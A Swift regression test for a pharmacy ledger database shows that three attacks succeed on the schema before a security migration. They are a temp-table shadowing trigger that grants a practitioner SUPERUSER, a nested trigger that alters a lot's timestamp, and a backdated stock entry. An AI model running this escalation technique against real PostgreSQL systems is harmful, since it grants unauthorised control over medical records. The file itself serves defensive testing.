import Foundation
import MesoCore
import PostgresClient
import Testing
import TestSupport

/// The attacks of `SecurityEscalationTests` against the schema as it was before Schema/0012, on a
/// cluster of the test's own (a login there becomes a superuser): they succeed, which shows that
/// the tests that find them failing now can tell.
@Suite("security: the same attacks before Schema/0012")
struct SecurityBeforeTests {
    @Test func theAttacksSucceedOnTheSchemaBeforeTheFix() throws {
        let cluster = try PrivateCluster("before")
        defer { cluster.destroy() }
        let database = try TestDatabase.create("security_before", migrated: false, server: cluster.serverURL)
        let admin = try database.connect()
        let older = try Migration.load(from: ProjectPaths.schema).filter { $0.version < Self.fixVersion }
        try SchemaMigrator(migrations: older).migrate(on: admin, actor: "test")
        try database.seed()
        let lot = try LedgerFixture.receiveLot(admin, product: "LIDO-1-MD", lot: "LD-OLD", vials: 1, expiresInDays: 100)
        let login = "before_practitioner_\(getpid())"
        try admin.query("CREATE ROLE \(identifier: login) LOGIN IN ROLE meso_practitioner")
        let url = try database.url(asUser: login)

        // A temporary table shadowing `patient`, whose trigger runs what the owner's function sends
        // to it: recording an allergy makes the practitioner a superuser.
        let shadowed = try Psql.run(
            url,
            """
            CREATE TEMP TABLE patient (LIKE public.patient);
            CREATE FUNCTION pg_temp.payload() RETURNS trigger LANGUAGE plpgsql AS $$
            BEGIN
                EXECUTE 'ALTER ROLE \(login) SUPERUSER';
                RETURN NULL;
            END $$;
            CREATE TRIGGER payload AFTER UPDATE ON pg_temp.patient FOR EACH STATEMENT EXECUTE FUNCTION pg_temp.payload();
            INSERT INTO public.patient_allergy (patient_id, compound_code, recorded_by)
            SELECT id, 'lidocaine', 'Dr' FROM public.patient WHERE mrn = 'MRN-0006';
            """)
        #expect(!shadowed.failed, "\(shadowed)")
        let escalated: Bool = try admin.query("SELECT rolsuper FROM pg_roles WHERE rolname = \(login)").rows[0].decode("rolsuper")
        #expect(escalated, "the attack on the older schema should succeed")
        try admin.query("ALTER ROLE \(identifier: login) NOSUPERUSER")

        // A trigger nested around the lot guard changes a cache the guard protects (the practitioner's
        // UPDATE on status_changed_at was there for SELECT ... FOR UPDATE).
        let nested = try Psql.run(
            url,
            """
            CREATE TEMP TABLE nest (id int);
            CREATE FUNCTION pg_temp.nest() RETURNS trigger LANGUAGE plpgsql AS $$
            BEGIN
                UPDATE public.lot SET status_changed_at = '2000-01-01' WHERE id = \(lot);
                RETURN NULL;
            END $$;
            CREATE TRIGGER nest AFTER INSERT ON pg_temp.nest FOR EACH ROW EXECUTE FUNCTION pg_temp.nest();
            INSERT INTO pg_temp.nest VALUES (1);
            """)
        #expect(!nested.failed, "\(nested)")
        let changed: Timestamp = try admin.query("SELECT status_changed_at FROM lot WHERE id = \(lot)").rows[0].decode("status_changed_at")
        #expect(changed == Timestamp(iso: "2000-01-01T00:00:00Z")!)

        // A ledger time is whatever the writer sends.
        let pharmacist = "before_pharmacist_\(getpid())"
        try admin.query("CREATE ROLE \(identifier: pharmacist) LOGIN IN ROLE meso_pharmacist")
        let backdated = try Psql.run(
            try database.url(asUser: pharmacist),
            """
            INSERT INTO public.stock_movement (lot_id, kind, quantity_ml, balance_after_ml, actor, reason, recorded_at)
            VALUES (\(lot), 'waste', -1, 0, 'Phil', 'dropped', '2001-01-01');
            """)
        #expect(!backdated.failed, "\(backdated)")
        let written: Timestamp = try admin.query(
            "SELECT recorded_at FROM stock_movement WHERE lot_id = \(lot) AND kind = 'waste'").rows[0].decode("recorded_at")
        #expect(written == Timestamp(iso: "2001-01-01T00:00:00Z")!)
    }

    /// The migration that closes these attacks.
    static let fixVersion = 12
}
